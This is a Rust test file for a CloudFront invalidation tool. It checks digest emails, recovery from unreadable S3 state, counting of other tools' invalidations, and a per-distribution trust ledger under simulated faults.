    let others: Vec<_> = (0..4).map(|_| account.another_environment()).collect();
    let rejections: Vec<_> = (0..4).map(|n| [rejection(n)]).collect();
    let reports = others.iter().zip(&rejections);
    let reports = reports.map(|(app, rejections)| async move {
        let sent = report(app, rejections).await;
        sent.note(app).await;
    });
    futures_util::future::join_all(reports).await;
    assert_eq!(account.mails().await.len(), 1);
    account.put_forward(Duration::from_secs(31 * 60));
    account.flush().await;
    let mails = account.mails().await;
    assert_eq!(mails.len(), 1, "the others are in the digest");
    assert!(
        mails[0].1.contains("4 paths rejected since"),
        "{}",
        mails[0].1
    );
}

#[tokio::test]
async fn a_state_that_cannot_be_read_keeps_no_mail_back_and_begins_anew() {
    let account = Account::new(&[]).await;
    let too_large = "x".repeat(Incidents::MAX_BYTES + 1);
    for (n, unreadable) in [
        b"garbage".as_slice(),
        br#"{"v":2,"incidents":{}}"#,
        b"\xff",
        br#"{"v":1,"open":{},"writes":["../mode.json"]}"#,
        too_large.as_bytes(),
    ]
    .into_iter()
    .enumerate()
    {
        account.write_object(STATE_KEY, unreadable).await;
        let written = account.versions(STATE_KEY).await;
        account.take_metrics();
        let sent = report(&account.app, &[rejection(n)]).await;
        sent.note(&account.app).await;
        let name = String::from_utf8_lossy(&unreadable[..unreadable.len().min(30)]);
        assert_eq!(account.mails().await.len(), 1, "{name}");
        assert_eq!(account.take_metrics()["StateUnreadable"], [1], "{name}");
        let kept = account.versions(STATE_KEY).await - written;
        assert_eq!(kept, 2, "{name}: what was there is an older version");
        report(&account.app, &[rejection(n + 100)]).await;
        assert_eq!(account.mails().await.len(), 0, "{name}: it is in a digest");
    }
    account.delete_error_bucket().await;
    report(&account.app, &[rejection(2)]).await;
    assert_eq!(account.mails().await.len(), 1, "without any state");
}

#[tokio::test]
async fn a_state_that_was_deleted_begins_anew_and_is_reported_once() {
    let account = Account::new(&[]).await;
    report(&account.app, &[rejection(1)])
        .await
        .note(&account.app)
        .await;
    assert_eq!(account.mails().await.len(), 1);
    let s3 = account.app.clients.s3();
    let delete = s3.delete_object().bucket("errors").key(STATE_KEY);
    delete.send().await.unwrap();
    account.take_metrics();
    report(&account.app, &[rejection(2)]).await;
    assert_eq!(account.mails().await.len(), 1, "a new incident");
    report(&account.app, &[rejection(3)]).await;
    let reported = account.take_metrics().remove("StateUnreadable");
    assert!(
        reported.is_none_or(|it| it == [1]),
        "moto tells no deletion"
    );
}

fn rejection(n: usize) -> Rejection {
    Rejection {
        code: "AccessDenied".to_owned(),
        reason: "no".to_owned(),
        target: "E1".to_owned(),
        alias: "www.example.org".to_owned(),
        paths: 1,
        samples: vec!["/a".to_owned()],
        key: format!("invalidation_error/{n}_E1.txt"),
        can_be_replayed: true,
    }
}

/// How many paths of others the ledger has.
async fn of_others(account: &Account) -> u64 {
    let now = account.app.clock.now_utc();
    match account.app.state().read::<Ledger>(LEDGER_KEY).await {
        Ok(Reading::Found(ledger, _)) => ledger.spending(now).others,
        Ok(Reading::Absent) => 0,
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn paths_of_others_are_counted_now_and_then_and_ours_are_not() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    let (minute, hour) = (Duration::from_secs(60), Duration::from_secs(3_600));
    let now = || account.app.clock.now_utc();
    away_from_a_new_month(&account);
    let add = |distribution: &str, reference: &str, paths: &[&str]| {
        let time = now();
        account
            .cloudfront
            .add_invalidation(distribution, time, reference, paths);
    };
    add("E1", "cli-1732154584-123456", &["/a", "/b"]);
    add(
        "E1",
        "0123456789abcdef0123456789abcdef-flush",
        &["/c", "/d", "/e"],
    );
    // Many tools use such a reference, and so did our version 0.1.
    add("E2", "0123456789abcdef0123456789abcdef", &["/*"]);
    account.put_forward(3 * minute);
    // CloudFront is busy: that is no reason to fail.
    let busy = Fault::Throttling.times(100);
    account
        .cloudfront
        .fail(busy.on(Operation::ListInvalidations));
    account.change(&[(PUT, "a")]).await;
    assert_eq!(failed(account.flush().await), 0);
    assert_eq!(of_others(&account).await, 0);
    account.cloudfront.heal();
    // It is tried again with the next flush that has work, in ten minutes.
    account.put_forward(10 * minute);
    account.change(&[(PUT, "b")]).await;
    account.flush().await;
    assert_eq!(of_others(&account).await, 3);
    let read = || {
        account
            .cloudfront
            .calls_of(Operation::GetInvalidation)
            .len()
    };
    assert_eq!(read(), 3);
    // What is counted is not read again, nor is it time for more.
    for (later, references, counted, read_so_far) in [
        (minute, vec!["too soon"], 3, 3),
        (hour, vec!["too soon, too", "again"], 6, 6),
    ] {
        for reference in references {
            add("E2", reference, &["/f"]);
        }
        account.put_forward(later);
        account.change(&[(PUT, "c")]).await;
        account.flush().await;
        assert_eq!(
            (of_others(&account).await, read()),
            (counted, read_so_far),
            "{later:?}"
        );
    }
    // Without work there is nothing to count for.
    add("E1", "at rest", &["/g"]);
    account.put_forward(hour);
    account.flush().await;
    assert_eq!((of_others(&account).await, read()), (6, 6));
}

/// Puts the clock to where no month begins in the hour before, nor in the next ten.
fn away_from_a_new_month(account: &Account) {
    let now = account.app.clock.now_utc();
    let hour = Duration::from_secs(3_600);
    if Month::at(now - hour) != Month::at(now + 10 * hour) {
        account.put_forward(12 * hour);
    }
}

/// A count that had to be finished at a time never was: each began anew.
#[tokio::test]
async fn what_is_left_of_a_count_is_counted_in_the_next_flushes() {
    let account = Account::new(&[]).await;
    account.cloudfront.add(site("E1"));
    account.cloudfront.add(site("E2"));
    let now = || account.app.clock.now_utc();
    away_from_a_new_month(&account);
    for (n, distribution) in (0..60).zip(["E1", "E2", "E1"].into_iter().cycle()) {
        let time = now() - Duration::from_secs(10 * n);
        account
            .cloudfront
            .add_invalidation(distribution, time, "build", &["/a", "/b"]);
    }
    account.put_forward(Duration::from_secs(180));
    let mut counted = Vec::new();
    while counted.last() != Some(&120) {
        account.change(&[(PUT, "a")]).await;
        account.cloudfront.clear_calls();
        account.flush().await;
        let calls = account.cloudfront.calls().into_iter().filter(|call| {
            matches!(
                call.operation,
                Operation::ListInvalidations | Operation::GetInvalidation
            )
        });
        assert!(calls.count() <= 40);
        counted.push(of_others(&account).await);
        account.put_forward(Duration::from_secs(1_800));
        assert!(counted.len() < 20, "{counted:?}");
    }
    assert!(counted[0] > 0 && counted.len() > 1, "{counted:?}");
    assert!(counted.is_sorted(), "{counted:?}");
}

/// Calls on the ledger.
const READ_LEDGER: &str = "GET /errors/state/ledger/ledger.json";
const WRITE_LEDGER: &str = "PUT /errors/state/ledger/ledger.json";
const ERROR_FILE: &str = "PUT /errors/invalidation_error/";

fn target(id: &str) -> Target {
    Target {
        distribution: DistributionId::new(id),
        tenant: None,
    }
}

fn terms() -> Terms {
    Terms {
        e_tag: "v1".to_owned(),
        buckets: [(BucketName::new("site"), "r1".to_owned())].into(),
    }
}

/// An account with a ledger that has trusted E1 and E2 for an hour.
async fn trusting(settings: &[(&'static str, &str)]) -> Account {
    let account = Account::new(settings).await;
    let mut ledger = Ledger::begin(Beginning::First);
    for id in ["E1", "E2"] {
        account.cloudfront.add(site(id));
        ledger.observe(an_hour_ago(), &target(id), &terms());
        ledger.grant(an_hour_ago(), &target(id), terms());
    }
    write_ledger(&account, &ledger).await;
    // The mode and the distributions are known.
    account.flush().await;
    account.calls.take();
    account
}

fn an_hour_ago() -> OffsetDateTime {
    OffsetDateTime::now_utc() - Duration::from_secs(3_600)
}

async fn write_ledger(account: &Account, ledger: &Ledger) {
    let json = ledger.to_json().unwrap();
    account.write_object(LEDGER_KEY, json.as_bytes()).await;
}

/// Which targets the ledger trusts.
async fn trusted(account: &Account) -> Vec<&'static str> {
    let ledger = account.app.ledger.read(account.app.state()).await.unwrap();
    let is_trusted =
        |id: &&str| matches!(ledger.trust_of(&target(id)), Some(Trust::Trusted { .. }));
    ["E1", "E2"].into_iter().filter(is_trusted).collect()
}

async fn spending(account: &Account) -> Spending {
    let ledger = account.app.ledger.read(account.app.state()).await.unwrap();
    ledger.spending(account.app.clock.now_utc())
}

/// Puts a set for E1 into SubmitQueue.
async fn enqueue(account: &Account, by: &str, path: &str, more: Value) {
    let lane = if path.contains('*') {
        "wildcards"
    } else {
        "paths"
    };
    let mut set = json!({ "v": 1, "distribution": "E1", "paths": [path], "by": by });
    set.as_object_mut()
        .unwrap()
        .extend(more.as_object().unwrap().clone());
    let id = format!("{:016x}", fastrand::u64(..));
    account
        .enqueue(&format!("E1/{lane}"), &id, &set.to_string())
        .await;
}

fn milliseconds_ago(time: Duration) -> u64 {
    let then = SystemTime::now() - time;
    let since = then.duration_since(SystemTime::UNIX_EPOCH).unwrap();
    u64::try_from(since.as_millis()).unwrap()
}

fn refuse(account: &Account, fault: Fault) {
    let fault = fault.always().of("E1").on(Operation::CreateInvalidation);
    account.cloudfront.fail(fault);
}

#[tokio::test]
async fn rejected_paths_take_the_trust_before_their_file_is_written() {
    let account = trusting(&[]).await;
    refuse(&account, Fault::AccessDenied);
    enqueue(&account, OURSELVES, "/a", json!({})).await;
    enqueue(&account, OURSELVES, "/b*", json!({})).await;
    account.submit().await;
    let mut calls = account.calls.take_of("/errors/");
    calls.retain(|call| !call.contains("incident"));
    assert_eq!(calls[..2], [READ_LEDGER, WRITE_LEDGER]);
    assert!(calls[2].starts_with(ERROR_FILE), "{calls:?}");
    assert_eq!(calls.len(), 3, "one for both lanes: {calls:?}");
    assert_eq!(trusted(&account).await, ["E2"]);
}

#[tokio::test]
async fn rejected_paths_wait_for_as_long_as_the_trust_cannot_be_taken() {
    for call in [READ_LEDGER, WRITE_LEDGER] {
        let account = trusting(&[]).await;
        refuse(&account, Fault::AccessDenied);
        account.calls.refuse(call);
        enqueue(&account, OURSELVES, "/a", json!({})).await;
        assert_eq!(account.submit().await, 1, "{call}");
        assert_eq!(account.waiting_sets().await, 1, "{call}");
        assert_eq!(account.error_files().await.len(), 0, "{call}");
        assert_eq!(account.mails().await.len(), 0, "{call}");
        account.calls.heal();
        assert_eq!(trusted(&account).await, ["E1", "E2"], "{call}");
    }
}

#[tokio::test]
async fn what_others_sent_and_what_was_never_trusted_costs_no_write_of_the_ledger() {
    let account = trusting(&[]).await;
    refuse(&account, Fault::AccessDenied);
    enqueue(
        &account,
        COMMAND_LINE,
        "/a",
        json!({ "reason": "replay of x" }),
    )
    .await;
    enqueue(&account, "deploy script", "/b", json!({})).await;
    account.submit().await;
    assert_eq!(account.calls.take_of("/ledger/"), [""; 0]);
    let unknown = r#"{"v":1,"distribution":"E3","paths":["/a"],"by":"invalidator"}"#;
    account.enqueue("E3/paths", "unknown", unknown).await;
    account.submit().await;
    assert_eq!(account.calls.take_of("/ledger/"), [READ_LEDGER]);
    assert_eq!(account.error_files().await.len(), 2);
    assert_eq!(trusted(&account).await, ["E1", "E2"]);
}

/// Each row: who sent a `/*` for trust, its path, how CloudFront answers, whether trust was lost after it was
/// sent, and whether it is granted.
#[tokio::test]
async fn only_a_wildcard_of_our_own_that_was_accepted_grants_trust() {
    let cases = [
        (OURSELVES, "/*", None, false, true),
        (OURSELVES, "/*", None, true, false),
        (OURSELVES, "/a*", None, false, false),
        ("deploy script", "/*", None, false, false),
        (COMMAND_LINE, "/*", None, false, false),
        (OURSELVES, "/*", Some(Fault::Throttling), false, false),
        (OURSELVES, "/*", Some(Fault::AccessDenied), false, false),
    ];
    for (by, path, fault, fails_again, expected) in cases {
        let name = format!("{by} {path} {fault:?} {fails_again}");
        let mut account = trusting(&[]).await;
        account.time = Duration::from_secs(22);
        let mut ledger = Ledger::begin(Beginning::First);
        ledger.observe(an_hour_ago(), &target("E1"), &terms());
        write_ledger(&account, &ledger).await;
        enqueue(&account, by, path, json!({ "trust": terms() })).await;
        if fails_again {
            account.put_forward(Duration::from_secs(900));
            let lost = [(&target("E1"), "paths were rejected")];
            let state = account.app.state();
            account.app.ledger.distrust(state, &lost).await.unwrap();
        }
        if let Some(fault) = fault {
            refuse(&account, fault);
        }
        account.submit_once().await;
        let granted = trusted(&account).await.contains(&"E1");
        assert_eq!(granted, expected, "{name}");
    }
}

/// Each row: who sent a set, how long ago, whether the stack is live, and whether that takes the trust.
#[tokio::test]
async fn sets_that_wait_for_twenty_minutes_take_the_trust() {
    let minutes = |minutes: u64| Duration::from_secs(60 * minutes);
    for (by, waited, mode, expected) in [
        (OURSELVES, minutes(19), Mode::Live, false),
        (OURSELVES, minutes(21), Mode::Live, true),
        (COMMAND_LINE, minutes(21), Mode::Live, false),
        (OURSELVES, minutes(19), Mode::Stopped, false),
        (OURSELVES, minutes(21), Mode::Stopped, true),
        (OURSELVES, minutes(21), Mode::DryRun, true),
        (COMMAND_LINE, minutes(21), Mode::Stopped, false),
    ] {
        let name = format!("{by} {waited:?} {mode:?}");
        let mut account = trusting(&[("CACHE_SECONDS", "0")]).await;
        account.time = Duration::from_secs(22);
        refuse(&account, Fault::TooManyInvalidationsInProgress);
        account.choose(mode).await;
        let first_sent = json!({ "first_sent": milliseconds_ago(waited) });
        enqueue(&account, by, "/a", first_sent).await;
        account.calls.take();
        assert_eq!(account.submit_once().await, 1, "{name}");
        let calls = account.calls.take_of("/ledger/");
        assert_eq!(
            calls.len(),
            if expected { 2 } else { 0 },
            "{name}: {calls:?}"
        );
        assert_eq!(trusted(&account).await.contains(&"E1"), !expected, "{name}");
    }
}

/// A wildcard that was accepted since makes up for the older of two sets, and not for the younger.
#[tokio::test]
async fn each_set_that_waits_is_looked_at_by_itself() {
    let mut account = trusting(&[]).await;
    account.time = Duration::from_secs(22);
    refuse(&account, Fault::TooManyInvalidationsInProgress);
    for minutes in [70, 30] {
        let waited = Duration::from_secs(60 * minutes);
        let first_sent = json!({ "first_sent": milliseconds_ago(waited) });
        enqueue(&account, OURSELVES, &format!("/{minutes}"), first_sent).await;
    }
    assert_eq!(account.submit_once().await, 2);
    assert_eq!(trusted(&account).await, ["E2"]);
}

/// It counts as old as the youngest of its sets, so nobody knows for how long the others have waited.
#[tokio::test]
async fn a_call_whose_answer_stays_lost_takes_the_trust() {
    let mut account = trusting(&[]).await;
    account.time = Duration::from_secs(22);
    refuse(&account, Fault::InternalError);
    enqueue(&account, OURSELVES, "/a", json!({})).await;
    account.submit_once().await;
    assert_eq!(trusted(&account).await, ["E1", "E2"], "handed over");
    account.submit_once().await;
    assert_eq!(trusted(&account).await, ["E2"]);
}

#[tokio::test]
async fn a_message_that_cannot_be_read_takes_the_trust_unless_another_tool_sent_it() {
    for (body, expected) in [
        (r#"{"v":2,"to":"E1","by":"invalidator"}"#, true),
        ("hello", true),
        (
            r#"{"v":1,"distribution":"E1","paths":["a b"],"by":"deploy script"}"#,
            false,
        ),
    ] {
        let account = trusting(&[]).await;
        account.enqueue("E1/paths", "unreadable", body).await;
        if expected {
            account.calls.refuse(WRITE_LEDGER);
            assert_eq!(account.submit_once().await, 1, "{body}");
            assert_eq!(account.error_files().await.len(), 0, "{body}");
            account.calls.heal();
            account.enqueue("E2/paths", "again", body).await;
        }
        account.calls.take();
        assert_eq!(account.submit_once().await, 0, "{body}");
        assert_eq!(account.error_files().await.len(), 1, "{body}");
        assert_eq!(trusted(&account).await.is_empty(), expected, "{body}");
    }
}

#[tokio::test]
async fn a_buffered_message_that_cannot_be_read_takes_the_trust_before_it_is_handed_over() {
    let account = trusting(&[]).await;
    account.buffer("hello").await;
    account.calls.refuse(WRITE_LEDGER);
    assert_eq!(failed(account.flush().await), 1, "the tick comes back");
    assert_eq!(
        (account.buffered().await, account.waiting_sets().await),
        (1, 0)
    );
    account.calls.heal();
    account.buffer("world").await;
    account.flush().await;
    assert_eq!(account.waiting_sets().await, 1);
    assert_eq!(trusted(&account).await, [""; 0]);
}

#[tokio::test]
async fn a_batch_that_is_accepted_costs_no_call_of_the_ledger_but_one_report_in_five_minutes() {
    let account = trusting(&[]).await;
    for n in 0..5 {
        enqueue(&account, OURSELVES, &format!("/{n}"), json!({})).await;
        account.calls.take();
        account.submit_once().await;
        let mut calls = account.calls.take();
        // Those that Lambda makes.
        calls.retain(|it| !it.ends_with(".ReceiveMessage") && !it.ends_with(".DeleteMessage"));
        let usual = [
            "POST /2020-05-31/distribution/E1/invalidation",
            "POST AmazonSQS.DeleteMessageBatch",
        ];
        assert_eq!(calls, usual);
    }
    assert_eq!(spending(&account).await.accepted, 0);
    account.put_forward(Duration::from_secs(301));
    enqueue(&account, OURSELVES, "/last", json!({})).await;
    account.calls.take();
    account.submit_once().await;
    assert_eq!(
        account.calls.take_of("/ledger/"),
        [READ_LEDGER, WRITE_LEDGER]
    );
    let spending = spending(&account).await;
    assert_eq!((spending.accepted, spending.reserved), (6, 0));
}

#[tokio::test]
async fn what_others_sent_is_reserved_when_it_is_accepted_and_not_before() {
    let mut account = trusting(&[]).await;
    account.time = Duration::from_secs(22);
    let reserved = async || spending(&account).await.reserved;
    enqueue(&account, OURSELVES, "/ours", json!({})).await;
    enqueue(&account, COMMAND_LINE, "/by-hand", json!({})).await;
    enqueue(&account, "deploy script", "/by-a-tool", json!({})).await;
    account.calls.refuse(WRITE_LEDGER);
    account.submit_once().await;
    assert_eq!(reserved().await, 0);
    account.calls.heal();
    enqueue(&account, OURSELVES, "/more", json!({})).await;
    account.submit_once().await;
    assert_eq!(reserved().await, 2, "written with the next batch");
    let spending = spending(&account).await;
    assert_eq!(spending.accepted, 4);
}
